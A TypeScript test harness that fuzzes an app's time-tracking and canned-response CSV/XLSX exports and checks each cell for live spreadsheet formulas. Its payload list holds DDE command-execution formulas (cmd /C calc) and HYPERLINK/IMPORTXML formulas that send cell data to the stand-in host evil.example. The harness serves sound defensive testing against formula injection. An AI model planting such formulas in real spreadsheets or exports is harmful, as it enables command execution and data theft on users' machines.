// build/harness/exports: the export part. Fuzzed text (strings starting with = + - @ tab CR and their
// fullwidth lookalikes, DDE and HYPERLINK payloads, quotes, commas, newlines, bidi marks) goes in
// through the real write paths — client names (clients.create), source names (the sources repo),
// conversation titles and member names (the ingester, as a connector would deliver them), the agent's
// name (agents.setupSelf), time-entry notes (time.addEntry), canned responses' titles, folders, tags and
// bodies (responses.save) — and out through every CSV and XLSX export: time.export in harvest, toggl,
// clockify, csv (detailed) and xlsx, and responses.export csv. Each file is parsed back as a spreadsheet
// would read it (csv-parse; exceljs for XLSX) and every cell is checked: `live_formulas` counts CSV
// cells that start like a formula (and are not a plain number) and XLSX cells stored as formulas.
// Activities are ids (/^[a-z][a-z0-9-]*$/, refused otherwise) so they cannot carry a formula start.
// Figures: export_files, csv_cells (cells read back, CSV and XLSX), export_fuzzed_values, live_formulas.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { createCore } from '../../electron/core/index';
import type { NormalizedItem } from '../../electron/core/connectors/types';
import { createKeyFileSecretStore } from '../../electron/core/secrets/keyFileSecretStore';
import { contractCall } from './contract';

/** What a spreadsheet (Excel, LibreOffice, Google Sheets; fullwidth forms in CJK locales) evaluates. */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

/** Whether a cell's text, as a spreadsheet reads it from CSV, would be evaluated as a formula. */
export function isLiveFormula(text: string): boolean {
  return text.length > 0 && TRIGGERS.includes(text[0]!) && !NUMBER.test(text);
}

const PAYLOADS = [
  'HYPERLINK("http://evil.example/?"&A1,"Open")',
  "cmd|' /C calc'!A0",
  "SUM(1+1)*cmd|' /C calc'!A0",
  'IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
  '1+1',
  '2+3 cmd|calc',
  'DDE("cmd";"/C calc";"!A0")',
  'A1',
];
const PREFIXES = [
  ...TRIGGERS,
  '',
  ' ',
  '"',
  "'",
  '\n',
  "'=",
  '==',
  '\u200B=',
  '\u202E=',
  '""=',
  ',=',
];
const CHARS = [
  'a',
  'Z',
  ' ',
  '"',
  "'",
  ',',
  ';',
  '\n',
  '\r\n',
  '\t',
  '=',
  '+',
  '-',
  '@',
  '|',
  'é',
  'Ж',
  '\uFF1D',
  '\u2212',
  '\u0430',
  '😀',
  '\\',
];
/** One fuzzed text: a formula-like start, then a payload or arbitrary text from hostile characters. */
export const fuzzText = fc
  .tuple(
    fc.constantFrom(...PREFIXES),
    fc.oneof(
      fc.constantFrom(...PAYLOADS),
      fc.array(fc.constantFrom(...CHARS), { minLength: 1, maxLength: 24 }).map((a) => a.join('')),
    ),
  )
  .map(([p, b]) => p + b);

/** Titles and folders of responses are refused with a line break (the rule of the form): made one line. */
const oneLine = (s: string) => s.replace(/[\r\n]/g, ' ');

/** Cells of one CSV text as a spreadsheet reads them (RFC 4180, BOM dropped). */
function csvCells(text: string): string[] {
  const rows = parse(text, { bom: true, relax_column_count: true }) as string[][];
  return rows.flat();
}

/** Cells of one XLSX file: text as shown, and whether the cell is stored as a formula. */
export async function xlsxCells(file: string): Promise<Array<{ text: string; formula: boolean }>> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  const out: Array<{ text: string; formula: boolean }> = [];
  wb.eachSheet((ws) =>
    ws.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) => {
        out.push({
          text: cell.text,
          formula: cell.type === ExcelJS.ValueType.Formula || cell.formula != null,
        });
      }),
    ),
  );
  return out;
}

export async function exportHarness(o: {
  entries: number;
  responses: number;
  log: (m: string) => void;
  seed?: number;
}) {
  const dir = mkdtempSync(join(tmpdir(), 'steward-exports-'));
  const core = await createCore({
    dataDir: dir,
    mode: 'test',
    secrets: createKeyFileSecretStore(dir),
    agent: { name: 'Harness', email: 'harness@example.test' },
    backups: false,
  });
  const call = contractCall((m, i) => core.dispatch(m, i), 'export');
  const texts = fc.sample(fuzzText, {
    numRuns: o.entries * 3 + o.responses * 4 + 40,
    seed: o.seed ?? 20261126,
  });
  let next = 0;
  let fuzzed = 0;
  const take = (max = 2000) => {
    fuzzed++;
    return texts[next++ % texts.length]!.slice(0, max);
  };
  const figures = { export_files: 0, csv_cells: 0, export_fuzzed_values: 0, live_formulas: 0 };
  try {
    // The agent's own name is in every time row; a name that trims to nothing gets a letter.
    await call('agents.setupSelf', { name: `${take(90)}x`, email: 'agent@example.test' });
    const CLIENTS = 8;
    const clients: Array<{ id: number; source: number; convs: number[] }> = [];
    const now = Date.now();
    for (let c = 0; c < CLIENTS; c++) {
      const client = await call<{ id: number }>('clients.create', {
        name: `${take(90)}${c}`,
        timezone: 'Europe/Copenhagen',
      });
      await call('time.setContract', {
        clientId: client.id,
        contract: {
          currency: 'EUR',
          timeZone: 'Europe/Copenhagen',
          rates: [{ ratePerHourMinor: 9000, effectiveFrom: '2026-01-01' }],
          rounding: { mode: 'up', intervalMinutes: 15, scope: 'entry' },
        },
      });
      const source = core.internals.repos.sources.insert(
        {
          clientId: client.id,
          platform: 'discourse',
          name: `${take(90)}${c}`,
          baseUrl: 'http://127.0.0.1:9',
          config: {},
          secretRef: null,
        },
        now,
      );
      clients.push({ id: client.id, source: source.id, convs: [] });
    }
    // Conversations with fuzzed titles and member names, as a connector delivers them.
    const perClient = Math.ceil(o.entries / 2 / CLIENTS);
    for (const [ci, c] of clients.entries()) {
      const items: NormalizedItem[] = [];
      for (let k = 0; k < perClient; k++) {
        const at = Date.parse('2026-10-01T08:00:00Z') + k * 60_000;
        const name = take(100);
        items.push({
          conversation: {
            externalId: `t${ci}-${k}`,
            title: take(300),
            url: null,
            createdAt: at,
            kind: 'topic',
          },
          member: {
            externalId: `m${ci}-${k}`,
            username: name,
            displayName: name,
            avatarUrl: null,
            isStaff: false,
          },
          message: {
            externalId: `p${ci}-${k}`,
            bodyHtml: '<p>x</p>',
            bodyText: take(500),
            createdAt: at,
            editedAt: null,
            version: 1,
            deleted: false,
          },
        });
      }
      core.internals.ingester.ingest({ id: c.source, clientId: c.id }, items, [], now);
    }
    // The harness reads the ids back directly (a read of its own, like the crash part's checks).
    const convIds = core.internals.db
      .prepare('SELECT id, client_id FROM conversations')
      .all() as Array<{ id: number; client_id: number }>;
    for (const c of clients) c.convs = convIds.filter((x) => x.client_id === c.id).map((x) => x.id);
    // Time entries: half on a conversation (its title is exported), half with a fuzzed note.
    for (let i = 0; i < o.entries; i++) {
      const c = clients[i % CLIENTS]!;
      const onConv = i % 2 === 0 && c.convs.length > 0;
      const day = 1 + (i % 28);
      await call('time.addEntry', {
        clientId: c.id,
        conversationId: onConv ? c.convs[(i >> 1) % c.convs.length]! : null,
        activity: ['reply', 'triage', 'moderation', 'call'][i % 4],
        start: `2026-10-${String(day).padStart(2, '0')}T${String(8 + (i % 9)).padStart(2, '0')}:${String(i % 60).padStart(2, '0')}:00+02:00`,
        seconds: 60 + (i % 7200),
        note: take(),
      });
    }
    // Canned responses with fuzzed title, folder, tags and body (agency library and one client's).
    for (let i = 0; i < o.responses; i++) {
      const tag = take(40)
        .replace(/[|\p{Cc}]/gu, '')
        .trim();
      await call('responses.save', {
        response: {
          clientId: i % 2 ? clients[0]!.id : null,
          shortcut: `fz${i}`,
          title: `${oneLine(take(190))}·`,
          folder: oneLine(take(190)),
          tags: tag ? [tag] : [],
          variants: [{ locale: 'en', platform: null, body: `${take(5000)}.` }],
        },
      });
    }
    figures.export_fuzzed_values = fuzzed;

    const examples: string[] = [];
    const check = (where: string, text: string, live: boolean) => {
      figures.csv_cells++;
      if (live) {
        figures.live_formulas++;
        if (examples.length < 10) examples.push(`${where}: ${JSON.stringify(text.slice(0, 80))}`);
      }
    };
    for (const format of ['harvest', 'toggl', 'clockify', 'csv', 'xlsx'] as const) {
      const r = await call<{ path: string; rows: number }>('time.export', {
        clientId: null,
        month: '2026-10',
        format,
        exportId: `fz-${format}`,
      });
      figures.export_files++;
      if (format === 'xlsx')
        for (const cell of await xlsxCells(r.path)) check(format, cell.text, cell.formula);
      else
        for (const cell of csvCells(readFileSync(r.path, 'utf8')))
          check(format, cell, isLiveFormula(cell));
      o.log(`exports: time ${format}: ${r.rows} rows`);
    }
    for (const clientId of [null, clients[0]!.id]) {
      const f = await call<{ text: string }>('responses.export', { clientId, format: 'csv' });
      figures.export_files++;
      for (const cell of csvCells(f.text)) check('responses csv', cell, isLiveFormula(cell));
    }
    for (const e of examples) o.log(`exports: live formula in ${e}`);
    o.log(
      `exports: ${figures.export_files} files, ${figures.csv_cells} cells, ${figures.live_formulas} live formulas`,
    );
    return figures;
  } finally {
    await core.stop();
    rmSync(dir, { recursive: true, force: true });
  }
}
